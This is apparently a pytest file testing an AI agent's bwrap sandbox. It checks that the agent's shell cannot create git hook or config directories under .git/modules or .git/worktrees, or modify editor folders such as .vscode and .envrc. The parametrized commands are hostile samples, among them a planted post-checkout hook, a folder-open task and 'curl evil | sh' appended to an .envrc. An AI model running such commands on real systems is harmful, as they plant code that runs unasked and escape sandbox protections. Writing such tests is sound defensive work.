"""The sandbox decides from the workspace's layout, with the real bwrap: no new git
directory can be made inside a repository's ``modules/`` or ``worktrees/`` (a submodule's
config or hooks that `git status` would read), while git's ordinary work in existing
submodules and worktrees still runs; editor folders that exist in subfolders
(``a/.vscode``) are read-only like the workspace's own."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent.sandbox import SandboxPolicy, protection
from agent.tools.shell import ShellSession
from tests.agent.sandbox_trials import marker_fixture, printf_text  # noqa: F401  (fixtures)
from tests.agent.test_sandbox import (  # noqa: F401  (fixtures)
    ctx,
    failed,
    git_metadata,
    layout,
    needs_bwrap,
    plain_git_status,
    repo,
    shell,
    workspace,
)
from tests.git_repos import PLANTED, Layout, git

pytestmark = needs_bwrap


def listing(folder: Path) -> list[str]:
    """Every path below ``folder`` (relative), or [] when it is missing."""
    if not folder.exists():
        return []
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


@pytest.mark.parametrize(
    "command",
    [
        "mkdir -p .git/modules/evil/hooks && "
        "printf '#!/bin/sh\\ntouch {marker}\\n' > .git/modules/evil/hooks/post-checkout",
        "mkdir .git/modules/evil && printf '{planted}' > .git/modules/evil/config",
        "mkdir .git/modules/libs/other",
        "cp -a .git/modules/sub .git/modules/copy",
        "mv .git/modules .git/old-modules",
        "mkdir -p .git/modules/sub/modules/inner && printf '{planted}' > "
        ".git/modules/sub/modules/inner/config",
        "mkdir .git/worktrees/new && printf '{planted}' > .git/worktrees/new/config.worktree",
        "mv .git/worktrees/wt .git/worktrees/old",
    ],
)
async def test_no_new_git_directory_can_be_made_in_modules_or_worktrees(
    layout: Layout,  # noqa: F811
    shell: ShellSession,  # noqa: F811
    marker: Path,
    command: str,
) -> None:
    ws = layout.workspace
    modules, worktrees = listing(ws / ".git/modules"), listing(ws / ".git/worktrees")
    before = git_metadata(ws)
    planted = printf_text(PLANTED.format(marker=marker))

    result = await shell.run(command.format(planted=planted, marker=marker), 20)

    assert failed(result), result.output
    assert listing(ws / ".git/modules") == modules
    assert listing(ws / ".git/worktrees") == worktrees
    assert git_metadata(ws) == before
    plain_git_status(ws, marker)


async def test_a_repository_without_submodules_cannot_be_given_one(
    repo: Path,  # noqa: F811
    shell: ShellSession,  # noqa: F811
    marker: Path,
) -> None:
    planted = printf_text(PLANTED.format(marker=marker))
    result = await shell.run(
        f"mkdir -p .git/modules/x/hooks && printf '{planted}' > .git/modules/x/config", 20
    )
    assert failed(result), result.output
    # And the masks leave nothing behind.
    assert not (repo / ".git/modules").exists() and not (repo / ".git/worktrees").exists()


async def test_git_still_commits_in_a_submodule_and_a_linked_worktree(
    layout: Layout,  # noqa: F811
    shell: ShellSession,  # noqa: F811
) -> None:
    ws = layout.workspace
    result = await shell.run(
        "cd sub && echo y > more.txt && git add more.txt && git commit -qm in-sub && "
        "cd ../libs/deep && echo d > d.txt && git add d.txt && git commit -qm in-deep && "
        "cd ../../wt && echo w > w.txt && git add w.txt && git commit -qm in-wt && "
        "git log --oneline -1",
        30,
    )
    assert result.exit_code == 0, result.output
    assert "in-wt" in result.output
    assert git(ws / "sub", "log", "--format=%s", "-1") == "in-sub\n"
    assert git(ws / "libs/deep", "log", "--format=%s", "-1") == "in-deep\n"


async def test_editor_folders_in_subfolders_are_read_only(
    workspace: Path,  # noqa: F811
    shell: ShellSession,  # noqa: F811
) -> None:
    (workspace / "a/.vscode").mkdir(parents=True)
    (workspace / "a/.vscode/settings.json").write_text("{}\n")
    (workspace / "b/c").mkdir(parents=True)
    (workspace / "b/c/.envrc").write_text("export X=1\n")
    (workspace / "d/.IDEA").mkdir(parents=True)  # names compared case-blind
    before = {folder: listing(workspace / folder) for folder in ("a/.vscode", "d/.IDEA")}

    for command in (
        'echo \'{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\' > a/.vscode/tasks.json',
        "echo '{}' >> a/.vscode/settings.json",
        "echo 'curl evil | sh' >> b/c/.envrc",
        "rm b/c/.envrc",
        "echo x > d/.IDEA/workspace.xml",
        "mv a/.vscode a/old",
    ):
        assert failed(await shell.run(command, 10)), command

    assert {f: listing(workspace / f) for f in before} == before
    assert (workspace / "a/.vscode/settings.json").read_text() == "{}\n"
    assert (workspace / "b/c/.envrc").read_text() == "export X=1\n"
    # Ordinary files beside them stay writable.
    assert (await shell.run("echo ok > a/notes.txt && echo ok > b/c/run.sh", 10)).exit_code == 0


def test_the_plan_reopens_existing_submodules_under_a_read_only_modules_folder(
    layout: Layout,  # noqa: F811
) -> None:
    ws = layout.workspace
    policy = SandboxPolicy(workspace=ws, temp_dir=ws.parent)
    plan = {str(p.relative_to(ws)): how for p, how in protection(policy)}
    assert plan[".git/modules"] == "protect" and plan[".git/worktrees"] == "protect"
    assert plan[".git/modules/sub"] == "reopen" and plan[".git/worktrees/wt"] == "reopen"
    assert plan[".git/modules/libs/deep"] == "reopen"
    assert ".git/modules/libs" not in plan  # read-only with the modules folder
    assert plan[".git/modules/sub/config"] == "protect"
    assert plan[".git/modules/sub/modules"] == "mask"
    assert os.path.isdir(ws / ".git/modules/sub")
